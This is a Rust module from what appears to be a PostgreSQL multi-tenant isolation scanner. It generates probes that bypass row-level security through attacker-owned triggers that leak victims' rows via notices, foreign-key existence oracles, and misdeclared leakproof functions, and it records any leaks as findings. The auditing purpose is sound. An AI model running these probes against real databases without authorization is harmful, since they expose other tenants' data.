//! Rights that lead around the policies: triggers and references of the attacker's own, functions that are trusted to
//! tell nothing.

use crate::attack::{Hunt, choices, functions, hijack, stage::Actor};
use crate::{
    catalog::{Function, Relation},
    finding::{TenantContext, Verb},
    rules,
    session::{SessionError, identifier, literal},
};

/// A trigger of the attacker's is handed the victim's rows in the victim's own transactions.
pub(super) async fn own_triggers(hunt: &mut Hunt) -> Result<(), SessionError> {
    for relation in hunt.stage.targets().into_iter().filter(Relation::is_table) {
        if !hunt.stage.may(&relation, "TRIGGER") {
            continue;
        }
        hunt.count(&relation.object(), Verb::Select, TenantContext::Tenant, "own trigger");
        let Some(column) =
            relation.columns.iter().find(|column| !column.generated && column.identity != "a").cloned()
        else {
            continue;
        };
        let script = vec![
            "create function pg_temp.nf_hand() returns trigger language plpgsql as $nf$ begin raise notice '%', old; return new; end $nf$".to_owned(),
            format!("create trigger nf_hand before update on {} for each row execute function pg_temp.nf_hand()", relation.quoted()),
        ];
        let mut all = script.clone();
        all.push("reset session authorization".to_owned());
        all.extend(hunt.stage.enter(Actor::Victim));
        let name = identifier(&column.name);
        all.push(format!("update {} set {name} = {name}", relation.quoted()));
        let outcome = hunt.stage.attempt(Actor::Attacker, &all, None).await?;
        let made = outcome.answers.len() >= script.len();
        let handed = hunt.tokens.in_heard(&outcome.heard, "");
        if let (true, Some(word)) = (made, handed) {
            let evidence = format!(
                "a trigger of the attacker's was handed {} in the other tenant's transaction",
                hunt.shown(&word)
            );
            hunt.add(
                &rules::UNDOES,
                &relation.object(),
                Verb::Select,
                TenantContext::Tenant,
                &script,
                &evidence,
                Some(relation.oid),
            );
        }
    }
    Ok(())
}

/// A foreign key of the attacker's own asks for values past row security.
pub(super) async fn own_references(hunt: &mut Hunt) -> Result<(), SessionError> {
    let Some((schema, made)) = hijack::writable_schema(hunt) else { return Ok(()) };
    let victim = hunt.stage.victim.clone();
    for relation in hunt.stage.targets().into_iter().filter(Relation::is_table) {
        if !hunt.stage.may(&relation, "REFERENCES") {
            continue;
        }
        let keys: Vec<Vec<i16>> = hunt
            .stage
            .catalog
            .constraints_of(relation.oid)
            .filter(|constraint| matches!(constraint.kind.as_str(), "p" | "u"))
            .map(|constraint| constraint.columns.clone())
            .collect();
        let Some(row) = hunt.row_behind(&relation, &victim) else { continue };
        for key in keys {
            let columns: Vec<_> = key.iter().filter_map(|number| relation.column(*number)).cloned().collect();
            let guessable = columns.iter().any(|column| {
                row.get(&column.name).cloned().flatten().is_some_and(|value| value != victim.id)
                    && hunt.stage.catalog.base_type(column.type_oid).is_some_and(|info| info.name != "uuid")
            });
            if !guessable
                || columns.iter().any(|column| {
                    hunt.stage.catalog.base_type(column.type_oid).is_some_and(|info| info.name == "uuid")
                        && row.get(&column.name).cloned().flatten().is_some_and(|value| value != victim.id)
                })
            {
                continue;
            }
            let names: Vec<String> = columns.iter().map(|column| identifier(&column.name)).collect();
            let typed: Vec<String> = columns
                .iter()
                .map(|column| format!("{} {}", identifier(&column.name), column.type_name))
                .collect();
            let table = format!("{}.nf_asks", identifier(&schema));
            let values = |other: bool| -> String {
                let values: Vec<String> = columns
                    .iter()
                    .map(|column| {
                        let value = row.get(&column.name).cloned().flatten().unwrap_or_default();
                        let info = hunt.stage.catalog.base_type(column.type_oid);
                        let (name, category) =
                            info.map_or(("", ""), |info| (info.name.as_str(), info.category.as_str()));
                        if other && value != victim.id {
                            literal(&choices::nobodys(name, category, &value))
                        } else {
                            literal(&value)
                        }
                    })
                    .collect();
                values.join(", ")
            };
            let (theirs, nobodys) = (values(false), values(true));
            let mut classes = Vec::new();
            let mut shown = Vec::new();
            for value in [&theirs, &nobodys] {
                let mut script = made.clone();
                script.push(format!(
                    "create table {table} ({}, foreign key ({}) references {} ({}))",
                    typed.join(", "),
                    names.join(", "),
                    relation.quoted(),
                    names.join(", ")
                ));
                script.push(format!("insert into {table} values ({value})"));
                hunt.count(&relation.object(), Verb::Existence, TenantContext::Tenant, "own reference");
                let outcome = hunt.stage.attempt(Actor::Attacker, &script, None).await?;
                classes.push(outcome.class());
                if shown.is_empty() {
                    shown = script;
                }
            }
            if classes[0].starts_with("ok") && classes[1].starts_with("23503") {
                let evidence = format!(
                    "{}: a reference of the attacker's own holds for another tenant's value and not for one that nobody has",
                    names.join(", ")
                );
                hunt.add(
                    &rules::EXISTENCE,
                    &relation.object(),
                    Verb::Existence,
                    TenantContext::Tenant,
                    &shown,
                    &evidence,
                    Some(relation.oid),
                );
            }
        }
    }
    Ok(())
}

/// A function that is wrongly trusted to tell nothing runs before the policy.
pub(super) async fn leakproof(hunt: &mut Hunt) -> Result<(), SessionError> {
    let trusted: Vec<Function> = functions::callable(&hunt.stage)
        .into_iter()
        .filter(|function| function.leakproof && function.argument_types.len() == 1 && !function.extension)
        .collect();
    for function in trusted {
        for relation in hunt.stage.targets() {
            if !hunt.readable.contains(&relation.oid) {
                continue;
            }
            for column in &relation.columns {
                let same = hunt.stage.catalog.base_type(column.type_oid).map(|info| info.oid)
                    == hunt.stage.catalog.base_type(function.argument_types[0]).map(|info| info.oid);
                if !same || !hunt.stage.may_column(&relation, column, "SELECT") {
                    continue;
                }
                hunt.count(&function.object(), Verb::Execute, TenantContext::Tenant, "leakproof");
                let statement = format!(
                    "select 1 from {} where {}({}) is null",
                    relation.quoted(),
                    function.quoted(),
                    identifier(&column.name)
                );
                let mut script: Vec<String> = ["indexscan", "bitmapscan", "indexonlyscan"]
                    .map(|kind| format!("set local enable_{kind} = off"))
                    .to_vec();
                script.push(statement.clone());
                let before =
                    hunt.base_of(&relation).map(|base| hunt.stage.without_own(&base)).unwrap_or_default();
                let outcome = hunt.stage.attempt_after(&before, Actor::Attacker, &script, None).await?;
                let word = outcome
                    .refusal
                    .as_ref()
                    .and_then(|refusal| hunt.tokens.in_refusal(refusal, &statement))
                    .or_else(|| hunt.tokens.in_heard(&outcome.heard, &statement));
                if let Some(word) = word {
                    let evidence = format!(
                        "declared leakproof, it ran before the policy of {} and told {}",
                        relation.object(),
                        hunt.shown(&word)
                    );
                    hunt.add(
                        &rules::LEAKY_VIEW,
                        &function.object(),
                        Verb::Execute,
                        TenantContext::Tenant,
                        &script,
                        &evidence,
                        None,
                    );
                }
            }
        }
    }
    Ok(())
}
